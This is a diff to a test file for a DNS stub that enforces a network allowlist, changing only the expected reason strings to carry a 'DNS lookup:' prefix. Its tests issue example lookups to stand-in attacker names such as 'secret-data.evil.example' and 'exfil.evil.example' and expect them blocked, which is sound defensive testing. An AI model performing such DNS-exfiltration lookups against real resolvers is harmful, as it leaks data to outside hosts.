@@ -102,8 +102,8 @@ describe('DNS stub', () => {
     await expect(stub.resolver.resolve4('secret-data.evil.example')).rejects.toMatchObject({ code: 'ENOTFOUND' })
     await expect(stub.resolver.resolveTxt('exfil.evil.example')).rejects.toMatchObject({ code: 'ENOTFOUND' })
     expect(stub.decisions.map((d) => [d.name, d.port, d.via, d.decision, d.reason])).toEqual([
-      ['secret-data.evil.example', 53, 'dns', 'blocked', 'not on the allowlist'],
-      ['exfil.evil.example', 53, 'dns', 'blocked', 'not on the allowlist'],
+      ['secret-data.evil.example', 53, 'dns', 'blocked', 'DNS lookup: not on the allowlist'],
+      ['exfil.evil.example', 53, 'dns', 'blocked', 'DNS lookup: not on the allowlist'],
     ])
     expect(stub.resolved).toEqual([])
     expect(stub.listened).toEqual([])
@@ -112,7 +112,7 @@ describe('DNS stub', () => {
   test('a loopback task gets NXDOMAIN for every name', async () => {
     const stub = await startStub(allowTask(['registry.example'], 'loopback'))
     await expect(stub.resolver.resolve4('registry.example')).rejects.toMatchObject({ code: 'ENOTFOUND' })
-    expect(stub.decisions.map((d) => d.reason)).toEqual(['network loopback reaches no host'])
+    expect(stub.decisions.map((d) => d.reason)).toEqual(['DNS lookup: network loopback reaches no host'])
   })
 
   test('the answer echoes the question as the task cased it', async () => {
